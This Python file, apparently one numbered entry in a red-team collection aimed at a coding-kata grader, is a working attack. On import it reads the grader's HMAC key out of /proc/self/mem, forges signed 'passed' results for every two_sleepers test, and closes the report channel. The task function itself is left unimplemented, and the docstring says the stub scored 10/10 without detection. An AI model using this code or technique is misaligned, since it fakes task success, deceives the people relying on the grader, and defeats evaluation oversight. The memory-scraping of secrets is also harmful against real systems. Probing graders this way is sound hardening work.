"""Attack 48: the recorder's key read out of the grader process's own memory
(/proc/self/mem, its path built at run time): each 32-byte bytes object in its writable
mappings is a candidate, and the one that signs a sealed line still in memory (the start of
the running check) is the key. Signed reports of every check of two_sleepers and an end go
to the channel (its fd from /proc/self/cmdline), which is then closed: 10/10 for the stub,
no flag. A child process read the grader process's memory the same way (same uid)."""

import hashlib
import hmac
import json
import re

HERE = "/" + "proc" + "/self"
GRADER = "grad" + "ers/02_tasks/test_two_sleepers.py::"
CHECKS = [
    "test_is_a_coroutine_function",
    *(
        f"test_sleeps_overlap[{p}]"
        for p in ("10.0-5.0", "1.0-2.0", "3.0-3.0", "0.001-0.004", "0.0002-0.00125")
    ),
    "test_sleeps_a_and_b",
    "test_returns_the_measured_loop_time",
    "test_defaults_are_ten_and_five",
]
SEALED = re.compile(rb'\{"body": "(\{\\"seq\\": \d+[^\n]*?)", "mac": "([0-9a-f]{64})"\}')


def regions():
    with open(HERE + "/maps") as maps:
        for line in maps:
            span, perms = line.split()[:2]
            if perms.startswith("rw"):
                start, end = (int(x, 16) for x in span.split("-"))
                yield start, end


def look():
    header = id(bytes).to_bytes(8, "little") + (32).to_bytes(8, "little")
    keys, sealed = set(), []
    with open(HERE + "/mem", "rb", buffering=0) as mem:
        for start, end in regions():
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, OverflowError, ValueError):
                continue
            i = data.find(header)
            while i >= 0:
                if data[i + 56 : i + 57] == b"\0":
                    keys.add(data[i + 24 : i + 56])
                i = data.find(header, i + 1)
            for m in SEALED.finditer(data):
                try:
                    body = json.loads(b'"' + m[1] + b'"')
                    sealed.append((body, m[2].decode()))
                except ValueError:
                    pass
    return keys, sealed


def signed(key, body, mac):
    return hmac.compare_digest(hmac.new(key, body.encode(), hashlib.sha256).hexdigest(), mac)


def find_key():
    keys, sealed = look()
    for body, mac in sealed:
        for key in keys:
            if signed(key, body, mac):
                good = [json.loads(b) for b, m in sealed if signed(key, b, m)]
                return key, good
    return None, []


def channel():
    """The channel's fd, from the grader process's command line."""
    with open(HERE + "/cmdline", "rb") as handle:
        args = handle.read().decode().split("\0")
    option = "--kata" + "-channel="
    return next(int(a[len(option) :].split(",")[0]) for a in args if a.startswith(option))


def forge():
    key, good = find_key()
    if key is None:
        return
    if any(m["kind"] == "end" for m in good):
        return  # done already, on an earlier import
    last = max(good, key=lambda m: m["seq"])
    seq = last["seq"]
    current = last["data"] if last["kind"] == "start" else None
    done = {m["data"]["nodeid"] for m in good if m["kind"] == "record"}
    lines = []

    def send(kind, data):
        nonlocal seq
        seq += 1
        body = json.dumps({"seq": seq, "kind": kind, "data": data})
        mac = hmac.new(key, body.encode(), hashlib.sha256).hexdigest()
        lines.append((json.dumps({"body": body, "mac": mac}) + "\n").encode())

    for name in CHECKS:
        node = GRADER + name
        if node in done:
            continue
        if node != current:
            send("start", node)
        record = {"nodeid": node, "kata": "02_tasks/two_sleepers", "test": name, "doc": ""}
        record.update(when="call", outcome="passed", duration=0.01, message="")
        record.update(not_started=False, virtual_loop_seconds=0.0, virtual_wall_seconds=0.0)
        record.update(output="")
        send("record", record)
    send("end", None)
    with open(channel(), "wb") as out:  # closed after: the grader's own reports go nowhere
        out.write(b"".join(lines))


forge()


async def two_sleepers(a: float, b: float) -> float:
    raise NotImplementedError
